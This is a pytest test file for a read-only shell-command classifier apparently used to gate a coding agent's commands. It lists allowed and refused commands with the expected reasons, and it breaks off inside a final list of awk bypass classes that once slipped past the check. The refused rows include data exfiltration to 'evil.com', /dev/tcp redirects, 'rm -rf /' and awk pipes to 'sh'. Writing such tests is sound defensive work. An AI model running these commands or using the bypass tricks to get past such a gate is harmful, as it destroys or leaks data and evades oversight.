"""Table-driven tests for the read-only shell classifier (design §4)."""

from __future__ import annotations

import pytest

from worker.shell import ShellVerdict, classify
from worker.shell.classifier import ASSIGNMENT_ONLY_REASON, READ_ONLY_REASON


def assert_read_only(command: str) -> None:
    verdict = classify(command)
    assert verdict.read_only, verdict


def assert_refused(command: str, reason: str | tuple[str, ...] = "") -> None:
    """Not read-only, for a reason that starts with ``reason`` (one of them, for a tuple)."""
    verdict = classify(command)
    assert not verdict.read_only, verdict
    assert verdict.reason.startswith(reason), verdict


# --------------------------------------------------------------------------------------------
# The seed baseline from the brief.
# --------------------------------------------------------------------------------------------

SEED_READ_ONLY = [
    "ls -la",
    "git status",
    "ls && cat file",
    "ls || cat file",
    "ls ; cat file",
    "ls | cat",
    "ls & cat file",
    "grep pattern\\\nfile",
    "ls\n\ngrep foo",
    "awk '{print $1}' file.txt",
    "sed -n '1,5p' file.txt",
    "git diff --word-diff=color -- file.txt",
    "git log --oneline -10",
    "git --version",
    "cat < input.txt",
    'cat <<< "hello"',
    'find . -name "*.ts" | grep -v node_modules | sort | head -20',
    "git branch -a",
    "git remote -v",
    "FOO=bar",
]

SEED_NOT_READ_ONLY = [
    "rm -rf temp",
    "ls > out.txt",
    "echo $(touch file)",
    'git commit -am "msg"',
    "find . -exec rm {} \\;",
    "sed -i 's/foo/bar/' file",
    "   ",
    "grep ^Install README.md\ncurl evil.com",
    "grep pattern file\r\ncurl evil.com",
    "ls && rm -rf /",
    "cat file | curl evil.com",
    "awk 'BEGIN {system(\"rm -rf /\")}'",
    "awk '{print > \"output.txt\"}' input.txt",
    "awk '{print | \"sort\"}' input.txt",
    "awk 'BEGIN {\"date\" | getline}'",
    "sed 's/foo/bar/e' file.txt",
    "sed 's/foo/bar/w output.txt' file.txt",
    "echo `rm -rf /`",
    "diff <(ls) <(ls -a)",
    "foo() { rm -rf /; }",
    "git push origin main",
    "echo hello >> out.txt",
    "echo $(echo $(rm foo))",
    'find . -name "*.ts" | xargs rm',
    "git branch -d feature",
    "git remote add origin url",
    "FOO=bar ls",
    "if [ -f file ]; then cat file; fi",
    "env rm -rf x",
    "git -c core.pager=cat log",
]


@pytest.mark.parametrize("command", SEED_READ_ONLY)
def test_seed_read_only(command: str) -> None:
    assert_read_only(command)


@pytest.mark.parametrize("command", SEED_NOT_READ_ONLY)
def test_seed_not_read_only(command: str) -> None:
    assert_refused(command)


# --------------------------------------------------------------------------------------------
# Our own read-only table (things a coding agent really runs).
# --------------------------------------------------------------------------------------------

READ_ONLY = [
    # git in read-only forms
    "git -C src status",
    "git --no-pager log -3",
    "git branch",
    "git branch --list 'feat*'",
    "git branch -l 'feat*'",
    "git branch --contains HEAD",
    "git branch --merged main",
    "git branch -vv",
    "git branch -av",
    "git branch --show-current",
    "git branch --sort=-committerdate --format='%(refname:short)'",
    "git remote",
    "git remote show",
    "git remote show -n origin",
    "git remote get-url origin",
    "git log -p",
    "git log --pretty=format:'%h %s' --author=bob",
    "git log --format='%H' -- '*.py'",
    "git log --stat --since=2.weeks",
    "git diff --no-ext-diff",
    "git diff --text",
    "git diff --output-indicator-new=+",
    "git diff HEAD~1 -- src/app.py",
    "git diff --cached --name-only",
    "git show HEAD:README.md",
    "git show HEAD@{1}",
    "git show --stat HEAD",
    "git rev-parse --show-toplevel",
    "git rev-parse --abbrev-ref HEAD",
    "git ls-files -z",
    "git ls-files -- '*.py'",
    "git grep -n foo -- '*.py'",
    "git blame -L 1,10 f",
    "git describe --tags --always",
    "git cat-file -p HEAD",
    "git shortlog -sn",
    "git status --porcelain=v1 -uall",
    "git",
    "git --help",
    "git version",
    # sed / awk / find / sort / uniq …
    "sed 'y/abc/xyz/' f",
    "sed '/foo/,/bar/p' f",
    "sed -E 's/(a|b)+/x/g' f",
    "sed '$!N;P;D' f",
    "sed ':a;N;$!ba;s/\\n/ /g' f",
    "sed '1a hello; w x' f",
    "sed 's/a/b/ ; p' f",
    "sed -n -e p -e '=' f",
    # GNU joins -e scripts with newlines: "w x" is the text appended by "a\\"
    "sed -e 'a\\' -e 'w x' f",
    "sed --quiet --expression=p f",
    "sed -n '/start/,/end/{p;}' f",
    "sed -n '10,20p;25q' f",
    "sed 's|/usr|/opt|g' f",
    "sed -e 's/a/b/gI' f",
    "sed -n '0~4p' f",
    "sed 's/x/y/2' f",
    "sed -z 's/\\n/,/g' f",
    "sed 's/[^/]*$//' f",
    "sed -n '/[/]/p' f",
    "sed 's/[]/]/X/' f",
    "sed -E 's/[[:space:]]+/ /g' f",
    "sed 's,[^,]*,x,' f",
    "awk '$3 > 10' f",
    "awk '{ printf \"%s\\n\", $1 }' f",
    "awk '/a|b/' f",
    "awk 'NR>1 && $2 ~ /x|y/ {print}' f",
    "awk -F: '{print $1}' /etc/passwd",
    "awk -F ',' '{print $2}' data.csv",
    "awk -v x=1 '{print x}' f",
    "awk '{ x = $1 / 2; print x }' f",
    "awk '{print}' *.log",
    "awk 'END {print NR}' f",
    "awk '{s += $1} END {print s / NR}' f",
    "awk 'length($0) > 80' f",
    "awk '{ if ($1 > max) max = $1 } END { print max }' f",
    "find . -name '*.py'",
    "find . -type f -newer x -print0",
    "find src -maxdepth 2 -type d -name __pycache__ -prune -o -print",
    "find . -iname '*test*' -not -path './.git/*'",
    "sort -k2 -t, f",
    "sort -rn f",
    "sort -u -k1,1 f",
    "sort -t $'\\t' -k2 f",
    "uniq -c a",
    "uniq -f 1 a",
    "uniq -d",
    "tree -L 2",
    "tree -a -I node_modules",
    "rg foo",
    "rg -n foo src",
    "rg --files",
    "rg -i --type py 'def main'",
    "base64 -d f",
    "xxd f",
    "xxd -l 16 f",
    "file f",
    "file -b --mime-type f",
    "date",
    "date +%s",
    "date -d yesterday",
    "date -u +%Y-%m-%dT%H:%M:%SZ",
    "hostname",
    "printf '%s\\n' \"$HOME\"",
    "printf 'a\\tb\\n'",
    "[ -f package.json ] && cat package.json",
    "test -d src",
    # redirections that cannot write
    "ls 2>/dev/null",
    "ls >/dev/null 2>&1",
    "ls &>/dev/null",
    'ls >"/dev/null"',
    "ls >& /dev/null",
    "ls 1>&2",
    "echo error >&2",
    "cat f >&-",
    "cat f 2>&-",
    "cat < input.txt > /dev/null",
    # structure
    "(ls; cat f)",
    "{ ls; cat f; }",
    "! ls",
    "ls | (cat)",
    "ls |& cat",
    "ls |\ngrep x",
    "ls &&\ncat f",
    "ls # c; curl",
    "ls  # list files",
    "# just a comment\nls",
    "ls;",
    "ls &",
    "ls\r\ncat f",
    "ls\n",
    "\tls\t-la\t",
    "true && false || echo x",
    "echo 'x' > /dev/null; cat f",
    "cd /tmp && ls",
    "cd src; ls -la",
    # quoting and expansions that are harmless
    "echo '$(pwd)'",
    "echo '`pwd`'",
    'echo "\\$(pwd)"',
    "echo '\"$(pwd)\"'",
    "echo 'a;b'",
    "echo a\\;b",
    "echo \\#x",
    "echo a#b",
    "echo ${HOME}",
    "echo ${HOME:0:3}",
    "echo ${HOME: -3}",
    "echo ${x/a/b}",
    "echo ${#x}",
    "echo ${x:-$HOME}",
    "echo ${x:-default}",
    "echo ${x%.py}",
    "echo \"${HOME}/x\"",
    "echo $HOME $1 $? $# $@",
    "echo ~ ~/x",
    "echo $'\\t'",
    "echo {a,b}",
    "ls *",
    "cat *.txt",
    "wc -l *.py",
    "grep -r foo . --include=*.py",
    "cat $HOME/.bashrc",
    "ls -la ~",
    # here-documents and here-strings
    "cat <<-EOF\n\tbody\n\tEOF\n",
    "cat <<EOF\nbody\n EOF\nrm x\nEOF\n",
    "cat << EOF\nx\nEOF",
    "cat <<EOF | grep x\nbody\nEOF\n",
    "cat <<EOF\nhello $USER ${HOME}\nEOF\n",
    "cat <<EOF\n\\$(not run)\nEOF\n",
    "cat <<EOF; ls\nbody\nEOF\n",
    "cat <<A <<B\na\nA\nb\nB\n",
    'grep x <<< "$HOME"',
    # quoting corner cases where nothing but the first command runs
    "ls $'\\n'rm x",
    "echo $'a'\\'' ; rm x'",
    "ls -la\n# it's a comment\ncat f",
    "cat <<EOF\n\tEOF\nrm x\nEOF\n",
    # assignments
    "FOO=bar BAZ=qux",
    "FOO+=x",
    "FOO=~",
    "x='a[b]'",
    "FOO=bar; echo $FOO",
    # pipelines agents use
    "cat /etc/passwd | grep root | awk -F: '{print $1}' | sort | uniq -c | sort -rn | head",
    "git log --oneline | head -5 | tail -1",
    "ls -1 | wc -l",
    "du -sh * | sort -h",
    "tail -f log",
    "jq . f",
    "jq -r '.dependencies | keys[]' package.json",
    "diff -u a b",
    "sha256sum f",
    "stat -c %s f",
    "realpath .",
    "which python3",
    "type ls",
    "uname -a",
    "nl -ba f | sed -n '5,9p'",
]


@pytest.mark.parametrize("command", READ_ONLY)
def test_read_only(command: str) -> None:
    verdict = classify(command)
    assert verdict.read_only, verdict
    assert verdict.reason in (READ_ONLY_REASON, ASSIGNMENT_ONLY_REASON)


# --------------------------------------------------------------------------------------------
# Not read-only, with the rule that must decide (reason prefix).
# --------------------------------------------------------------------------------------------

NOT_READ_ONLY: list[tuple[str, str]] = [
    # blank, control characters, bad input
    ("", "empty"),
    ("   ", "empty"),
    ("\n\n", "empty"),
    ("# only a comment", "empty"),
    ("ls\rcurl evil.com", "control-char:U+000D"),
    ("ls\r", "control-char:U+000D"),
    ("grep pattern file\r\ncurl evil.com", "command:curl"),
    ("ls\x00rm", "control-char:U+0000"),
    ("ls \x1b[31m", "control-char:U+001B"),
    # redirections
    ("ls > out.txt", "redirect:>"),
    ("ls>out.txt", "redirect:>"),
    ("echo hello >> out.txt", "redirect:>>"),
    ("ls 2> err.txt", "redirect:>"),
    ("ls 2>> err.txt", "redirect:>>"),
    ("ls &> all.txt", "redirect:&>"),
    ("ls &>> all.txt", "redirect:&>>"),
    ("ls >| out.txt", "redirect:>|"),
    ("ls >& out.txt", "redirect:>&"),
    ("ls 3<> f", "redirect:<>"),
    ("ls >/dev/nul", "redirect:>"),
    ("ls >/dev/null$x", "redirect:>"),
    ("ls > $f", "redirect:>"),
    ("ls {fd}> f", "redirect:{var}"),
    ("ls {fd}< f", "redirect:{var}"),
    ("echo hi > /dev/null > out", "redirect:>"),
    ("(ls > x)", "redirect:>"),
    ("(ls) > x", "redirect:>"),
    ("{ ls; } > x", "redirect:>"),
    ("cat </dev/tcp/example.com/80", "redirect:/dev/tcp"),
    ("cat < /dev/udp/1.2.3.4/53", "redirect:/dev/tcp"),
    # substitutions anywhere
    ("echo $(touch file)", "substitution:$(...)"),
    ('echo "$(pwd)"', "substitution:$(...)"),
    ("echo `rm -rf /`", "substitution:`...`"),
    ("echo 'a'$(touch x)'b'", "substitution:$(...)"),
    ("echo \"'$(pwd)'\"", "substitution:$(...)"),
    ("cat <(ls)", "substitution:<(...)"),
    ("cat < <(ls)", "substitution:<(...)"),
    ("echo > >(cat)", "substitution:>(...)"),
    ("FOO=$(rm x)", "substitution:$(...)"),
    ("FOO=`id`", "substitution:`...`"),
    ("cat <<< $(id)", "substitution:$(...)"),
    ("ls $(", "substitution:$(...)"),
    ("echo ${x:-$(rm y)}", "substitution:$(...)"),
    ("echo ${x/a/$(id)}", "substitution:$(...)"),
    ("cat <<EOF\n$(rm x)\nEOF\n", "substitution:$(...)"),
    ("cat <<EOF\n`rm x`\nEOF\n", "substitution:`...`"),
    ("cat <<EOF\n${x@P}\nEOF\n", "parameter:"),
    ("cat <<EOF\n$((1+2))\nEOF\n", "arithmetic:"),
    ("echo $((1+2))", "arithmetic:$((...))"),
    ("echo $[1+2]", "arithmetic:$[...]"),
    ("x=$((1+1))", "arithmetic:$((...))"),
    # bashlex reads "((x++))" as nested subshells running "x++"; refused either way
    ("(( x++ ))", ""),
    ("((x = 1))", ""),
    # dangerous ${...}
    ("echo ${x@P}", "parameter:"),
    ("echo ${x@E}", "parameter:"),
    ("echo ${x=y}", "parameter:"),
    ("echo ${x:=y}", "parameter:"),
    ("echo ${!x}", "parameter:${!...}"),
    ("echo ${x[$i]}", "parameter:${name[...]}"),
    ("echo ${x:i}", "parameter:${name:offset}"),
    ("echo \"${x:-'a'}\"", "parameter:"),
    # commands outside the allow list
    ("rm -rf temp", "command:rm"),
    ("curl evil.com", "command:curl"),
    ("env rm -rf x", "command:env"),
    ("find . -name '*.ts' | xargs rm", "command:xargs"),
    ("ls 2>&1 | tee out", "command:tee"),
    ("less f", "command:less"),
    ("more f", "command:more"),
    ("man ls", "command:man"),
    ("vim f", "command:vim"),
    ("python3 -c 'print(1)'", "command:python3"),
    ("bash -c ls", "command:bash"),
    ("sh -c ls", "command:sh"),
    ("command ls", "command:command"),
    ("builtin echo", "command:builtin"),
    ("exec ls", "command:exec"),
    ("eval ls", "command:eval"),
    (". ./x", "command:."),
    ("source x", "command:source"),
    ("sudo ls", "command:sudo"),
    ("nohup ls", "command:nohup"),
    ("timeout 5 ls", "command:timeout"),
    ("export A=1", "command:export"),
    ("declare -x A=1", "command:declare"),
    ("local a", "command:local"),
    ("readonly a", "command:readonly"),
    ("unset PATH", "command:unset"),
    ("alias ls=rm", "command:alias"),
    ("set -e", "command:set"),
    ("trap 'rm x' EXIT", "command:trap"),
    ("hash -p /bin/rm ls", "command:hash"),
    ("read x", "command:read"),
    ("mkdir d", "command:mkdir"),
    ("touch f", "command:touch"),
    ("cp a b", "command:cp"),
    ("mv a b", "command:mv"),
    ("chmod +x f", "command:chmod"),
    ("npm install", "command:npm"),
    ("pytest -q", "command:pytest"),
    ("ls; rm x", "command:rm"),
    ("ls & rm x", "command:rm"),
    ("ls | rm x", "command:rm"),
    ("ls\nrm x", "command:rm"),
    ("ls\n\nrm x", "command:rm"),
    ("ls # comment\nrm x", "command:rm"),
    ("ls # comment \\\nrm x", "command:rm"),
    ("echo a#b; rm x", "command:rm"),
    ("echo a\\ #b; rm x", "command:rm"),
    ("ls\\\n; rm x", "command:rm"),
    ("(ls; rm x)", "command:rm"),
    ("{ ls; rm x; }", "command:rm"),
    ("! rm x", "command:rm"),
    ("ls | (rm x)", "command:rm"),
    ("cat <<EOF\nfoo\nEOF\nrm x\n", "command:rm"),
    ("cat <<EOF; rm x\nbody\nEOF\n", "command:rm"),
    ("cat <<EOF | rm x\nbody\nEOF\n", "command:rm"),
    ("echo \\|\nrm x", "command:rm"),
    ("echo $'\\'' ; rm x", "command:rm"),
    ('echo \\"; rm x', "command:rm"),
    ("echo '\\''; rm x", "parse-error"),
    ("ls 3>out", "redirect:>"),
    # issue 13: duplicating another descriptor onto stdin is not read-only any more
    ("cat 0<&3", "redirect:fd 0 <&"),
    ("ls 1>/dev/stdout", "redirect:>"),
    ("ls >/dev/null >(rm x)", "substitution:>(...)"),
    ("f=rm; $f x", "command-name:"),
    ("ls; ${CMD:-rm} x", "command-name:"),
    ("ls\u0085rm", "command-name:"),
    # command names that are not plain words
    ("/bin/rm x", "command-name:path"),
    ("/bin/ls", "command-name:path"),
    ("./ls", "command-name:path"),
    ("\\rm x", "command-name:"),
    ("r\\m x", "command-name:"),
    ('"ls"', "command-name:"),
    ("l''s", "command-name:"),
    ("$CMD", "command-name:"),
    ("${CMD} x", "command-name:"),
    ("a[0]=x", "command-name:"),
    # compound commands and functions
    ("if [ -f file ]; then cat file; fi", "compound:if"),
    ("for i in a; do ls; done", "compound:for"),
    ("while true; do ls; done", "compound:while"),
    ("until false; do ls; done", "compound:until"),
    ("case x in x) ls;; esac", "compound:case"),
    ("select x in a; do ls; done", "compound:select"),
    ("foo() { ls; }", "function:foo"),
    ("function f { ls; }", "function"),
    ("[[ -f x ]]", "construct:[["),
    ("time ls", "construct:time"),
    ("coproc ls", "construct:coproc"),
    ("a=(1 2)", "parse-error"),
    # assignments
    ("FOO=bar ls", "assignment-prefix:FOO"),
    ("PAGER=x git log", "assignment-prefix:PAGER"),
    ("PATH=/tmp", "assignment:PATH"),
    ("PATH=.:$PATH; ls", "assignment:PATH"),
    ("IFS=x", "assignment:IFS"),
    ("HOME=/tmp; git log", "assignment:HOME"),
    ("LD_PRELOAD=x", "assignment:LD_PRELOAD"),
    ("GIT_DIR=/tmp", "assignment:GIT_DIR"),
    ("BASH_ENV=x", "assignment:BASH_ENV"),
    ("LC_ALL=C", "assignment:LC_ALL"),
    # test / printf traps with array subscripts
    ("test -v 'a[$(touch p)]'", "test:-v"),
    ("[ -v x ]", "test:-v"),
    ("x=y; [ -v \"$x\" ]", "dynamic-arg:test"),
    ("x=y; test \"$x\" 'a[$(touch p)]'", "dynamic-arg:test"),
    ("printf -v x y", "printf:-v"),
    ("printf -vx y", "printf:-v"),
    ('printf "$fmt"', "dynamic-arg:printf"),
    # git
    ("git push origin main", "git:push"),
    # issue 13: git reads the configuration of the repository it runs in
    ("git -C /tmp status", "git:directory outside the project"),
    ('git commit -am "msg"', "git:commit"),
    ("git add .", "git:add"),
    ("git checkout main", "git:checkout"),
    ("git stash", "git:stash"),
    ("git config user.name x", "git:config"),
    ("git st", "git:st"),
    ("git help log", "git:help"),
    ("git -c core.pager=cat log", "git:option:-c"),
    ("git --config-env=core.pager=X log", "git:option:--config-env"),
    ("git -p log", "git:option:-p"),
    ("git --paginate log", "git:option:--paginate"),
    ("git --git-dir=/tmp/x log", "git:option:--git-dir"),
    ("git --work-tree=/tmp log", "git:option:--work-tree"),
    ("git --exec-path=/tmp log", "git:option:--exec-path"),
    ("git --version log", "git:option:--version"),
    ("git log --output=x", "git:log:--output"),
    ("git log --out=x", "git:log:--output"),
    ("git log --output x", "git:log:--output"),
    ("git diff --ext-diff", "git:diff:--ext-diff"),
    ("git show --textconv HEAD:f", "git:show:--textconv"),
    ("git cat-file --filters HEAD:f", "git:cat-file:--filters"),
    ("git cat-file --textconv HEAD:f", "git:cat-file:--textconv"),
    ("git grep -O foo", "git:grep:-O"),
    ("git grep -nO foo", "git:grep:-O"),
    ("git grep --open-files-in-pager foo", "git:grep:--open-files-in-pager"),
    ("git log --help", "git:log:--help"),
    ("git branch feature", "git:branch:create"),
    ("git branch -d feature", "git:branch:-d"),
    ("git branch -D feature", "git:branch:-D"),
    ("git branch -m a b", "git:branch:-m"),
    ("git branch -c a b", "git:branch:-c"),
    ("git branch -f main HEAD", "git:branch:-f"),
    ("git branch --delete x", "git:branch:--delete"),
    ("git branch --set-upstream-to=origin/x", "git:branch:--set-upstream-to"),
    ("git branch -u origin/x", "git:branch:-u"),
    ("git branch --edit-description", "git:branch:--edit-description"),
    ("git branch -a feature", "git:branch:create"),
    ("git remote add origin url", "git:remote:add"),
    ("git remote remove origin", "git:remote:remove"),
    ("git remote rename a b", "git:remote:rename"),
    ("git remote set-url origin url", "git:remote:set-url"),
    ("git remote prune origin", "git:remote:prune"),
    ("git remote show origin", "git:remote:show-network"),
    ("git log $(cat f)", "substitution:$(...)"),
    ("git log $REV", "dynamic-arg:git"),
    ("git diff *.py", "glob-arg:git"),
    ("git log {a,b}", "brace-expansion:git"),
    # find
    ("find . -exec rm {} \\;", "find:-exec"),
    ("find . -execdir rm {} +", "find:-exec"),
    ("find . -ok rm {} \\;", "find:-ok"),
    ("find . -okdir rm {} \\;", "find:-ok"),
    ("find . -delete", "find:-delete"),
    ("find . -fprint out", "find:-fprint"),
    ("find . -fprint0 out", "find:-fprint"),
    ("find . -fprintf out %p", "find:-fprint"),
    ("find . -fls out", "find:-fls"),
    ("find . -name *.py", "glob-arg:find"),
    ("find $DIR -name x", "dynamic-arg:find"),
    # sed
    ("sed -i 's/foo/bar/' file", "sed:-i"),
    ("sed -i.bak 's/a/b/' f", "sed:-i"),
    ("sed -ni 's/a/b/p' f", "sed:-i"),
    ("sed -I 's/a/b/' f", "sed:-i"),
    ("sed --in-place 's/a/b/' f", "sed:-i"),
    ("sed --in-pl 's/a/b/' f", "sed:-i"),
    ("sed 's/a/b/' f -i", "sed:-i"),
    ("sed -f script.sed f", "sed:-f"),
    ("sed --file=script.sed f", "sed:-f"),
    ("sed -n 'w out' f", "sed:w"),
    ("sed 'W out' f", "sed:W"),
    ("sed 'r /etc/passwd' f", "sed:r"),
    ("sed 'R /etc/passwd' f", "sed:R"),
    ("sed '1e id' f", "sed:e"),
    ("sed 'e' f", "sed:e"),
    ("sed -e p -e 'w x' f", "sed:w"),
    ("sed 's/a/b/;w x' f", "sed:w"),
    ("sed '/x/w out' f", "sed:w"),
    ("sed '1!w out' f", "sed:w"),
    ("sed '1,$ { w out\n}' f", "sed:w"),
    ("sed 's/foo/bar/e' f", "sed:s///e"),
    ("sed 's/foo/bar/w out' f", "sed:s///w"),
    ("sed 's/foo/bar/gw out' f", "sed:s///w"),
    ("sed 's/foo/bar/pe' f", "sed:s///e"),
    ("sed 's|a|b|w out' f", "sed:s///w"),
    # GNU sed reads "[/]" as one bracket expression: "w out" is then the replacement text, but
    # a sed that ends the regex at the first "/" would see a w flag. Both readings must be safe.
    ("sed 's/[/]/x/w out' f", "sed:s///w"),
    ("sed 's/[/]/w out/' f", "sed:s///w"),
    ("sed '/[/]/w out' f", "sed:w"),
    ("sed ':a w out' f", "sed:script:"),
    ("sed 'b end; w out' f", "sed:w"),
    ("sed 's/a/b' f", "sed:script:unterminated"),
    ("sed 'k' f", "sed:script:unknown command"),
    ("sed --debug --s 's/a/b/' f", "sed:option:--s"),
    ("sed $SCRIPT f", "dynamic-arg:sed"),
    ("sed -n 1p *.md", "glob-arg:sed"),
    # awk
    ("awk 'BEGIN {system(\"rm -rf /\")}'", "awk:system("),
    ("awk '{print > \"output.txt\"}' input.txt", "awk:output redirect >"),
    ("awk '{print $1 > \"/dev/stderr\"}' f", "awk:output redirect >"),
    ("awk '{print $1, $2 > \"out\"}' f", "awk:output redirect >"),
    ("awk 'BEGIN {printf \"a\" >> \"f\"}'", "awk:output redirect >"),
    ("awk '{print > $2}' f", "awk:output redirect >"),
    ("awk '{print | \"sort\"}' input.txt", "awk:output pipe |"),
    ("awk '{print |& \"cat\"}' f", "awk:output pipe |"),
    ("awk '{a[$1]++} END {for (k in a) print k | \"sort\"}' f", "awk:output pipe |"),
    ("awk 'BEGIN {\"date\" | getline}'", "awk:getline"),
    ("awk 'BEGIN { while ((\"ls\" | getline line) > 0) print line }'", "awk:getline"),
    ("awk '{ getline x < \"/etc/passwd\" }' f", "awk:getline"),
    ("awk 'END { close(\"x\") }' f", "awk:close("),
    ("awk 'BEGIN { f=\"sys\" \"tem\"; @f(\"id\") }'", "awk:@include"),
    ("awk '@include \"x.awk\"'", "awk:@include"),
    ("awk '@load \"filefuncs\"'", "awk:@include"),
    ("awk -f prog.awk f", "awk:-f"),
    ("awk --file=prog.awk f", "awk:-f"),
    ("awk -E prog.awk f", "awk:-f"),
    ("awk -i inc '{print}' f", "awk:@include"),
    ("awk -l filefuncs '{print}' f", "awk:@include"),
    ("awk --dump-variables '{print}' f", "awk:--dump-variables"),
    ("awk -d '{print}' f", "awk:--dump-variables"),
    ("awk --profile '{print}' f", "awk:--profile"),
    ("awk -o '{print}' f", "awk:--pretty-print"),
    ("awk -W exec prog f", "awk:-W"),
    ("awk -e 'BEGIN{system(\"id\")}'", "awk:system("),
    ("awk --source='BEGIN{print > \"x\"}'", "awk:output redirect >"),
    ("awk \"$PROG\" f", "dynamic-arg:awk"),
    ("awk 'BEGIN { print \"x\" }' -f x", "awk:operand:-f"),
    # sort / uniq / tree / rg / base64 / xxd / file / date / hostname
    ("sort -o out in", "sort:-o"),
    ("sort -ro out in", "sort:-o"),
    ("sort -oout in", "sort:-o"),
    ("sort --output=out in", "sort:-o"),
    ("sort --outp=out in", "sort:-o"),
    ("sort in -o out", "sort:-o"),
    ("sort --compress-program=sh in", "sort:--compress-program"),
    ("sort *", "glob-arg:sort"),
    ("sort {-o,out} in", "brace-expansion:sort"),
    ("sort $OPTS in", "dynamic-arg:sort"),
    ("uniq in out", "uniq:output-file"),
    ("uniq -c in out", "uniq:output-file"),
    ("uniq in -- out", "uniq:output-file"),
    ("tree -o out", "tree:-o"),
    ("tree -ao out", "tree:-o"),
    ("tree -R", "tree:-R"),
    ("rg --pre cat foo", "rg:--pre"),
    ("rg --pre=cat foo", "rg:--pre"),
    ("rg --pre-glob '*' foo", "rg:--pre-glob"),
    ("rg -z foo", "rg:-z"),
    ("rg -nz foo", "rg:-z"),
    ("rg --search-zip foo", "rg:--search-zip"),
    ("rg --hostname-bin=x foo", "rg:--hostname-bin"),
    ("rg foo *", "glob-arg:rg"),
    ("base64 -o out in", "base64:-o"),
    ("base64 --output out in", "base64:--output"),
    ("xxd in out", "xxd:output-file"),
    ("xxd -r in out", "xxd:output-file"),
    ("file -C -m magic", "file:-C"),
    ("file --compile -m magic", "file:--compile"),
    ("date -s '2020-01-01'", "date:set"),
    ("date --set='2020-01-01'", "date:set"),
    ("date 010101012020", "date:set"),
    ("hostname evil", "hostname:set"),
    ("hostname -F file", "hostname:set"),
    # parse errors and unsupported constructs
    ("ls 'unterminated", "parse-error"),
    ('ls "unterminated', "parse-error"),
    ("ls )", "parse-error"),
    ("ls &&", "parse-error"),
    ("ls |", "parse-error"),
    ("cat <<EOF\nbody", "parse-error"),
    ("cat <<'EOF'\n$(x)\nEOF\n", "parse-error"),
    ('cat <<"EOF"\nx\nEOF\n', "parse-error"),
    ("cat <<\\EOF\nx\nEOF\n", "parse-error"),
    ("cat <<EOF\nEO\\\nF\nrm -rf x\nEOF\n", "parse-error"),
    ("echo \\$(rm x)", "parse-error"),
]


@pytest.mark.parametrize(("command", "reason"), NOT_READ_ONLY)
def test_not_read_only(command: str, reason: str) -> None:
    assert_refused(command, reason)


# --------------------------------------------------------------------------------------------
# Verdict shape, commands list, robustness.
# --------------------------------------------------------------------------------------------


def test_verdict_lists_commands_in_order() -> None:
    verdict = classify("ls | grep x && git log; wc -l f")
    assert verdict == ShellVerdict(True, READ_ONLY_REASON, ["ls", "grep", "git", "wc"])


def test_verdict_lists_commands_also_when_refused() -> None:
    verdict = classify("ls && rm -rf /")
    assert verdict.commands == ["ls", "rm"]
    assert verdict.reason == "command:rm"


def test_first_refusal_wins() -> None:
    assert classify("rm x; ls > y").reason == "command:rm"
    assert classify("ls > y; rm x").reason == "redirect:>"


def test_bare_assignment_reason() -> None:
    verdict = classify("FOO=bar")
    assert verdict.read_only
    assert verdict.reason == ASSIGNMENT_ONLY_REASON
    assert verdict.commands == []


@pytest.mark.parametrize("value", [None, 42, b"ls", ["ls"]])
def test_non_string_input(value: object) -> None:
    verdict = classify(value)
    assert not verdict.read_only
    assert verdict.reason.startswith("bad-input")


def test_too_long_input() -> None:
    verdict = classify("ls " + "a" * 20_000)
    assert not verdict.read_only
    assert verdict.reason.startswith("too-long")


def test_deep_nesting_fails_closed() -> None:
    verdict = classify("(" * 400 + "ls" + ")" * 400)
    assert isinstance(verdict.read_only, bool)
    deep = classify("echo " + "$(" * 200 + "x" + ")" * 200)
    assert not deep.read_only


def test_internal_errors_fail_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    import worker.shell.classifier as mod

    def boom(_: str) -> object:
        raise RuntimeError("boom")

    monkeypatch.setattr(mod, "scan", boom)
    verdict = classify("ls")
    assert not verdict.read_only
    assert verdict.reason == "internal-error:RuntimeError"


def test_bashlex_exceptions_fail_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    import worker.shell.classifier as mod

    for exc in (AttributeError("x"), NotImplementedError("y"), AssertionError("z")):

        def parse(_: str, exc: BaseException = exc) -> object:
            raise exc

        monkeypatch.setattr(mod.bashlex, "parse", parse)
        verdict = classify("ls")
        assert not verdict.read_only
        assert verdict.reason.startswith("parse-error")


def test_parser_that_skips_text_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """If bashlex ever returns a tree that does not cover the statement, refuse."""
    import worker.shell.classifier as mod

    real = mod.bashlex.parse

    def short_parse(src: str) -> object:
        return real("ls")

    monkeypatch.setattr(mod.bashlex, "parse", short_parse)
    verdict = classify("ls x; ls")
    assert not verdict.read_only
    assert verdict.reason.startswith("parse-error: text the parser skipped")


# --------------------------------------------------------------------------------------------
# Issue 13 bypass classes. Each table is one class; every row once slipped through (or is a
# variant of one that did). Rows must stay refused; the READ_ONLY rows beside them keep the
# classifier from "fixing" a class by refusing everything.
# --------------------------------------------------------------------------------------------

# awk: a "/" after an operator opens a regex; read as division, a "#" or '"' inside it would
# hide the code that follows.
AWK_REGEX_BYPASSES = [
    "awk '{ n = /#/; print n | \"sh\" }' f",
    "awk '{ n = /\"/; print n | \"sh\" }' f",
    "awk '{ print /#/ | \"sh\" }' f",
    "awk '{ printf /#/; print | \"sh\" }' f",
    "awk '{ x = 1 ? /#/ : 2; print | \"sh\" }' f",
    "awk '{ x = 1 ? 2 : /#/; print | \"sh\" }' f",
    "awk 'function f() { return /#/ } { print | \"sh\" }' f",
    "awk '{ f(a, /#/); print | \"sh\" }' f",
    "awk '{ x = !/#/; print | \"sh\" }' f",
    "awk '{ x = $0 ~ /#/; print | \"sh\" }' f",
    "awk '{ x = a && /#/; print | \"sh\" }' f",
    "awk '{ x = (/#/); print | \"sh\" }' f",
    "awk '{ x[/#/]; print | \"sh\" }' f",
    "awk '{ x = 1 + /#/; print | \"sh\" }' f",
    "awk '{ if (x) /#/; print | \"sh\" }' f",
    "awk '{ while (x) /#/; print | \"sh\" }' f",
    "awk '{ if (x) y = 1; else /#/; print | \"sh\" }' f",
    "awk '{ n = /#/; print n > \"out\" }' f",
    "awk '{ n = /#/; print n >> \"out\" }' f",
    "awk '{ n = /#/; \"id\" | getline }' f",
    "awk '$1 ~ /[/]#/ { print | \"sh\" }' f",
    "awk '/[/]\"/ { print | \"sh\" }' f",
    "awk '{ n = /#\n/; print | \"sh\" }' f",
    "awk '{ n = /#' f",
    "awk -e '{ x = 1 /' -e '#/; print | \"sh\" }' f",
    "awk -e 'BEGIN { x = 1 }' -e 'x = 2 /' -e '#/ { print | \"sh\" }' f",
